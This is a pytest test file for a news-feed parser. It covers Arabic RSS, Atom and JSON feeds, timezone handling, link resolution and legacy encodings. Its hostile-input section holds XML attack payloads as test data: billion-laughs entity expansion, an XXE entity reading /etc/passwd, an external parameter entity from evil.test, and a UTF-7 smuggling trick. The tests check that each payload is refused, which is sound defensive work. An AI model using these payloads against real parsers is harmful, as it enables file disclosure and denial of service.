"""parse_feed: fixtures with their expected items, both parsers, dates, links, and hostile input."""

from __future__ import annotations

import gzip
import json
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from scraper.errors import ParseError
from scraper.parse import feeds, fields
from scraper.parse.feeds import parse_feed

FEEDS = Path(__file__).parent.parent / "fixtures" / "feeds"


def fixture(name: str) -> bytes:
    return gzip.decompress((FEEDS / name).read_bytes())


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def rss(items: str, channel_extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>قناة</title>'
        f"{channel_extra}{items}</channel></rss>"
    ).encode()


# --- fixtures with expected items -----------------------------------------------------------------

RSS2_EXPECTED = [
    ("https://news.example.ae/world/2025/06/03/iran-russia-talks",
     "جولة جديدة من المحادثات الإيرانية الروسية في موسكو", utc(2025, 6, 3, 10, 30), "سارة المنصوري"),
    ("https://news.example.ae/world/2025/06/03/lavrov-tehran",
     'لافروف: التعاون مع طهران "استراتيجي" ولا يستهدف أحداً', utc(2025, 6, 3, 8, 5), None),
    ("https://news.example.ae/economy/oil-prices-opec",
     "أسعار النفط ترتفع بعد تصريحات أوبك+", utc(2025, 6, 2, 20, 15), None),
    ("https://news.example.ae/world/transport-deal?utm_source=rss&ref=feed",
     "بيان مشترك: موسكو وطهران توقعان اتفاقية للنقل", utc(2025, 6, 2, 6, 0), None),
]


def test_arabic_rss2_items_titles_dates_authors() -> None:
    parsed = parse_feed(fixture("arabic-rss2.xml.gz"), "https://news.example.ae/rss/latest.xml")
    got = [(i.url, i.title, i.published_at, i.author) for i in parsed.items]
    assert got == RSS2_EXPECTED
    assert parsed.title == "الأخبار العاجلة - شبكة الخليج الإخبارية"
    assert parsed.ttl_minutes == 10
    assert parsed.parser == "fastfeedparser"


def test_rss2_summary_is_plain_text_without_script() -> None:
    first = parse_feed(fixture("arabic-rss2.xml.gz"), "https://news.example.ae/rss").items[0]
    assert first.summary == "وصل وزير الخارجية الإيراني إلى موسكو لبحث الملف النووي والتعاون في مجال الطاقة."


def test_both_parsers_agree_on_rss2_and_rss1() -> None:
    for name in ("arabic-rss2.xml.gz", "arabic-rss1.rdf.gz"):
        body = feeds._checked_body(fixture(name))
        fast = feeds._parse_fast(body, "https://news.example.ae/rss")
        slow = feeds._parse_slow(body, "https://news.example.ae/rss", None, None)
        assert fast.items == [
            # feedparser leaves guid unset where fastfeedparser copies the link into it
            type(i)(**{**i.__dict__, "guid": f.guid}) for i, f in zip(slow.items, fast.items, strict=True)
        ], name
        assert (fast.title, fast.ttl_minutes) == (slow.title, slow.ttl_minutes)


def test_atom_with_xml_base_falls_back_to_feedparser_and_resolves() -> None:
    parsed = parse_feed(fixture("arabic-atom.xml.gz"), "https://www.example-news.com.lb/ar/atom.xml")
    assert parsed.parser == "feedparser"
    assert [(i.url, i.title, i.published_at, i.author) for i in parsed.items] == [
        ("https://www.example-news.com.lb/ar/politics/2025/06/iran-su35",
         "عاجل: طهران وموسكو تبحثان تزويد إيران بمقاتلات سو-35", utc(2025, 6, 3, 6, 45),
         "مراسل النشرة في بيروت"),
        ("https://www.example-news.com.lb/ar/economy/bdl-circular-158",
         "مصرف لبنان يمدد العمل بالتعميم 158", utc(2025, 6, 2, 18, 20), None),
    ]
    assert parsed.items[1].summary == "قرر المجلس المركزي تمديد العمل بالتعميم حتى نهاية العام."


def test_json_feed() -> None:
    parsed = parse_feed(fixture("arabic-jsonfeed.json.gz"), "https://nabd.example.sa/feed.json")
    assert parsed.title == "نبض الشرق - آخر الأخبار"
    assert [(i.url, i.published_at, i.author, i.summary) for i in parsed.items] == [
        ("https://nabd.example.sa/news/7781-iran-russia-gas", utc(2025, 6, 3, 5, 0), "فريق التحرير",
         "أعلن الجانبان اتفاقاً مبدئياً على المسار."),
        ("https://nabd.example.sa/news/7779-riyadh-summit", utc(2025, 6, 2, 17, 30), None,
         "البيان الختامي دعا إلى وقف التصعيد في المنطقة."),
    ]


def test_rss1_rdf() -> None:
    parsed = parse_feed(fixture("arabic-rss1.rdf.gz"), "https://akhbar.example.eg/rss")
    assert [(i.url, i.published_at, i.author) for i in parsed.items] == [
        ("https://akhbar.example.eg/a/5501", utc(2025, 6, 3, 10, 0), "أحمد عبد الرحمن"),
        ("https://akhbar.example.eg/a/5502", utc(2025, 6, 2, 5, 30), None),
    ]
    assert parsed.items[0].title == "وزير الخارجية المصري يستقبل نظيره الروسي في القاهرة"


def test_real_bbc_urdu_feed() -> None:
    parsed = parse_feed(fixture("bbc-urdu-2018-10-24.rss.xml.gz"), "http://feeds.bbci.co.uk/urdu/rss.xml")
    assert len(parsed.items) == 26
    first = parsed.items[0]
    assert first.url == "http://www.bbc.com/urdu/pakistan-42575603"
    assert first.title is not None and first.title.startswith("امریکی عسکری امداد کی بندش کی وجوہات")
    assert first.published_at == utc(2018, 1, 5, 16, 51)


def test_feedparser_conformance_relative_link_against_document_uri() -> None:
    body = fixture("feedparser-http_item_link_base_docuri.xml.gz")
    parsed = parse_feed(body, "http://127.0.0.1:8097/base/http_item_link_base_docuri.xml")
    assert [i.url for i in parsed.items] == ["http://127.0.0.1:8097/relative/uri"]


def test_feedparser_conformance_ampersand_link_and_unclosed_root() -> None:
    parsed = parse_feed(fixture("feedparser-rss_item_link_corrupted_ampersands.xml.gz"), "http://x.test/")
    assert [i.url for i in parsed.items] == ["http://link/get?a=1&b=2"]


def test_feedparser_conformance_incomplete_cdata_without_items_is_an_error() -> None:
    with pytest.raises(ParseError, match="malformed feed XML, no items recovered"):
        parse_feed(fixture("feedparser-rss_incomplete_cdata.xml.gz"), "http://x.test/")


# --- links, guids, dates, ttl ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        ("/a/1.html", "https://site.test/a/1.html"),
        ("a/1.html", "https://site.test/rss/a/1.html"),
        ("../b/2", "https://site.test/b/2"),
        ("//cdn.site.test/c", "https://cdn.site.test/c"),
        ("  https://other.test/x  ", "https://other.test/x"),
    ],
)
def test_relative_links_resolve_against_feed_url(link: str, expected: str) -> None:
    body = rss(f"<item><title>t</title><link>{link}</link></item>")
    assert [i.url for i in parse_feed(body, "https://site.test/rss/feed.xml").items] == [expected]


@pytest.mark.parametrize("link", ["javascript:alert(1)", "mailto:a@b.test", "ftp://x.test/f", "http://"])
def test_items_without_a_usable_http_link_are_skipped(link: str) -> None:
    body = rss(f"<item><title>bad</title><link>{link}</link></item><item><link>/ok</link></item>")
    assert [i.url for i in parse_feed(body, "https://site.test/").items] == ["https://site.test/ok"]


def test_permalink_guid_is_used_non_permalink_guid_is_not() -> None:
    body = rss(
        "<item><title>a</title><guid>https://s.test/a</guid></item>"
        '<item><title>b</title><guid isPermaLink="false">https://s.test/b</guid></item>'
        '<item><title>c</title><link>https://s.test/c</link><guid isPermaLink="false">https://s.test/c</guid></item>'
    )
    assert [i.url for i in parse_feed(body, "https://s.test/").items] == ["https://s.test/a", "https://s.test/c"]


@pytest.mark.parametrize(
    ("date", "expected"),
    [
        ("Tue, 03 Jun 2025 10:00:00 +0300", utc(2025, 6, 3, 7, 0)),  # Riyadh, Baghdad, Amman
        ("Tue, 03 Jun 2025 10:00:00 +0200", utc(2025, 6, 3, 8, 0)),  # Cairo
        ("Tue, 03 Jun 2025 10:00:00 +0400", utc(2025, 6, 3, 6, 0)),  # Dubai
        ("Tue, 03 Jun 2025 10:00:00 +0100", utc(2025, 6, 3, 9, 0)),  # Algiers, Tunis, Casablanca
        ("Tue, 03 Jun 2025 10:00:00 AST", utc(2025, 6, 3, 7, 0)),  # Arabia Standard Time
        ("Tue, 03 Jun 2025 10:00:00 EET", utc(2025, 6, 3, 8, 0)),
        ("Tue, 03 Jun 2025 10:00:00 EEST", utc(2025, 6, 3, 7, 0)),
        ("Tue, 03 Jun 2025 10:00:00 GST", utc(2025, 6, 3, 6, 0)),
        ("Tue, 03 Jun 2025 10:00:00 GMT", utc(2025, 6, 3, 10, 0)),
        ("3 Jun 2025 10:00 +0300", utc(2025, 6, 3, 7, 0)),
        ("not a date", None),
    ],
)
def test_rfc822_dates_with_arab_region_offsets(date: str, expected: datetime | None) -> None:
    body = rss(f"<item><link>/x</link><pubDate>{date}</pubDate></item>")
    for parse in (feeds._parse_fast, lambda b, u: feeds._parse_slow(b, u, None, None)):
        [item] = parse(feeds._checked_body(body), "https://s.test/").items
        assert item.published_at == expected, (date, parse)
        assert expected is None or item.published_at.tzinfo is UTC


def test_ttl_and_no_ttl() -> None:
    assert parse_feed(rss("<item><link>/a</link></item>", "<ttl> 30 </ttl>"), "https://s.test/").ttl_minutes == 30
    assert parse_feed(rss("<item><link>/a</link></item>"), "https://s.test/").ttl_minutes is None


def test_html_in_titles_is_stripped() -> None:
    body = rss("<item><title><![CDATA[<b>عاجل</b>: بيان &amp; تعليق]]></title><link>/a</link></item>")
    assert parse_feed(body, "https://s.test/").items[0].title == "عاجل: بيان & تعليق"


def test_valid_feed_without_items_is_empty_not_an_error() -> None:
    parsed = parse_feed(rss(""), "https://s.test/")
    assert parsed.items == [] and parsed.title == "قناة"


def test_gzipped_feed_body_is_decompressed() -> None:
    body = gzip.compress(rss("<item><link>/a</link></item>"))
    assert [i.url for i in parse_feed(body, "https://s.test/").items] == ["https://s.test/a"]


def test_falls_back_to_feedparser_when_fast_parser_raises(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_args: object, **_kw: object) -> None:
        raise ValueError("simulated fastfeedparser failure")

    monkeypatch.setattr(feeds.fastfeedparser, "parse", broken)
    parsed = parse_feed(rss("<item><title>x</title><link>/a</link></item>"), "https://s.test/")
    assert (parsed.parser, [i.url for i in parsed.items]) == ("feedparser", ["https://s.test/a"])


def test_hundred_thousand_items() -> None:
    items = "".join(f"<item><title>خبر {i}</title><link>/a/{i}</link></item>" for i in range(100_000))
    parsed = parse_feed(rss(items), "https://s.test/")
    assert len(parsed.items) == 100_000
    assert parsed.items[-1].url == "https://s.test/a/99999"


# --- bad and hostile input -----------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    "<rss><channel><item><title>&lol3;</title><link>http://a.test/</link></item></channel></rss>"
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<rss><channel><item><title>&xxe;</title><link>http://a.test/</link></item></channel></rss>"
)
# "<" written as "+ADw-": invisible to a byte scan, decoded by a parser that honours the declaration
UTF7_ENTITIES = (
    b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE rss +AFsAPA-!ENTITY a "aaaa"+AD4AXQA+-'
    b"<rss><channel><item><title>&a;</title><link>http://a.test/</link></item></channel></rss>"
)
PARAM_ENTITY = '<!-- c --><!DOCTYPE rss [ <!ENTITY % ext SYSTEM "http://evil.test/x.dtd"> %ext; ]><rss/>'


@pytest.mark.parametrize(
    ("body", "cause"),
    [
        (b"", "empty body"),
        (b"  \n\t ", "empty body"),
        (BILLION_LAUGHS.encode(), "ENTITY"),
        (XXE.encode(), "ENTITY"),
        (PARAM_ENTITY.encode(), "ENTITY"),
        (BILLION_LAUGHS.encode("utf-16"), "ENTITY"),
        (BILLION_LAUGHS.encode("utf-16-be"), "ENTITY"),
        (UTF7_ENTITIES, "not ASCII-compatible"),
        (b"<!DOCTYPE html><html><head><title>x</title></head><body>hi</body></html>", "got an HTML page"),
        (b"\n<html lang='ar'><body><a href='/rss'>rss</a></body></html>", "got an HTML page"),
        ("<!-- cache miss --><div class='error'>404 - الصفحة غير موجودة</div>".encode(), "got an HTML page"),
        (b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x.dtd"><html xmlns="http://www.w3.org/1999/xhtml"/>',
         "got an HTML page"),
        (bytes(range(256)) * 20, "not a feed"),
        (b"just some text", "not a feed"),
        (b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>', "<urlset>"),
        (json.dumps({"hello": "world"}).encode(), "jsonfeed.org"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": [', "invalid JSON Feed"),
        (b"\x1f\x8b\x08\x00garbage", "gzip"),
    ],
)
def test_bad_input_raises_parse_error_naming_the_cause(body: bytes, cause: str) -> None:
    with pytest.raises(ParseError) as err:
        parse_feed(body, "https://s.test/feed")
    assert cause in str(err.value)


def test_truncated_feed_recovers_complete_items() -> None:
    body = rss("<item><title>أول</title><link>/1</link></item><item><title>ثان</title><link>/2</link></item>")
    truncated = body[: body.index("<title>ثان".encode()) + 12]
    assert [i.url for i in parse_feed(truncated, "https://s.test/").items][:1] == ["https://s.test/1"]


def test_doctype_without_entities_is_allowed() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel><title>t</title>'
        b"<item><title>a</title><link>http://a.test/1</link></item></channel></rss>"
    )
    assert [i.url for i in parse_feed(body, "https://s.test/").items] == ["http://a.test/1"]


# --- repairs found by measurement (bench/feeds.py) ----------------------------------------------------


def test_html_entities_outside_cdata_are_kept() -> None:
    body = rss("<item><title>Und tsch&uuml;ss&nbsp;&hellip; &copy;</title><link>/a</link></item>")
    for parse in (feeds._parse_fast, lambda b, u: feeds._parse_slow(b, u, None, None)):
        assert parse(feeds._checked_body(body), "https://s.test/").items[0].title == "Und tschüss … ©"


def test_bare_ampersands_in_links_survive() -> None:
    body = rss("<item><title>a & b</title><link>http://example/?a=1&b=2&c</link></item>"
               "<item><link><![CDATA[http://example/?x=1&y=2]]></link></item>")
    parsed = parse_feed(body, "https://s.test/")
    assert [(i.url, i.title) for i in parsed.items] == [
        ("http://example/?a=1&b=2&c", "a & b"), ("http://example/?x=1&y=2", None)]


def test_undeclared_windows_1256_feed_is_decoded() -> None:
    text = ('<rss version="2.0"><channel><title>أخبار اليوم</title><item><title>محادثات إيرانية روسية في موسكو'
            "</title><link>https://s.test/1</link></item></channel></rss>")
    for content_type in ("application/rss+xml; charset=windows-1256", None):
        parsed = parse_feed(text.encode("windows-1256"), "https://s.test/", content_type)
        assert parsed.items[0].title == "محادثات إيرانية روسية في موسكو", content_type


def test_declared_iso_8859_6_feed_is_decoded() -> None:
    text = ('<?xml version="1.0" encoding="ISO-8859-6"?><rss version="2.0"><channel><item>'
            "<title>قمة الرياض</title><link>https://s.test/1</link></item></channel></rss>")
    assert parse_feed(text.encode("iso-8859-6"), "https://s.test/").items[0].title == "قمة الرياض"


def test_atom_entry_link_is_the_alternate_html_page() -> None:
    body = (
        b'<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        b'<entry><id>urn:1</id><link rel="enclosure" href="http://s.test/a.mp3"/><link rel="self" '
        b'href="http://s.test/1.atom"/><link rel="alternate" type="text/html" href="http://s.test/1"/></entry>'
        b'<entry><id>urn:2</id><link rel="self" href="http://s.test/2.atom"/></entry>'
        b'<entry><id>urn:3</id><link href="http://s.test/3"/></entry></feed>'
    )
    fast = feeds._parse_fast(feeds._checked_body(body), "https://s.test/")
    assert [i.url for i in fast.items] == ["http://s.test/1", "http://s.test/3"]


def test_feed_with_a_stray_xhtml_doctype_is_still_a_feed() -> None:
    body = (b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "x">'
            b"<rss><channel><title>found</title><item><link>http://s.test/1</link></item></channel></rss>")
    assert [i.url for i in parse_feed(body, "https://s.test/").items] == ["http://s.test/1"]


def test_php_warning_before_the_xml_declaration_is_skipped() -> None:
    body = (b"<br />\n<b>Warning</b>: Cannot modify header information in <b>feed.php</b><br />\n"
            + rss("<item><link>/a</link></item>"))
    assert [i.url for i in parse_feed(body, "https://s.test/").items] == ["https://s.test/a"]
    assert [i.url for i in parse_feed(b"\n\n  " + rss("<item><link>/b</link></item>"), "https://s.test/").items] == [
        "https://s.test/b"]


def test_entities_behind_leading_junk_are_still_refused() -> None:
    with pytest.raises(ParseError, match="ENTITY"):
        parse_feed(b"junk\n" + BILLION_LAUGHS.encode(), "https://s.test/")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<p>أ</p><p>ب<br>ج</p>", "أ ب ج"),
        ("<b>عاجل</b>: بيان", "عاجل: بيان"),
        ("5 < 6 و 7 > 3", "5 < 6 و 7 > 3"),
        ("<!-- a > b --><i>نص</i>", "نص"),
        ("<script>if (a<b) {}</script><style>p{}</style>مرئي", "مرئي"),
        ("قبل&nbsp;بعد &amp; &#1601;", "قبل بعد & ف"),
        ("  \n ", None),
        (None, None),
    ],
)
def test_plain_text(value: str | None, expected: str | None) -> None:
    assert fields.plain_text(value) == expected


def test_tag_stripping_is_linear_on_unclosed_tags() -> None:
    # "<p<p<p…" has no ">": a scan restarting at every "<" and running to the end would take minutes
    # (100,000 starts x 200 KB); the linear one takes well under a second even on a loaded machine.
    started = time.perf_counter()
    assert fields.plain_text("<p" * 100_000) == "<p" * 100_000
    assert fields.plain_text("نص <b>عريض</b> " + "<a" * 50_000) == "نص عريض " + "<a" * 50_000
    assert time.perf_counter() - started < 5
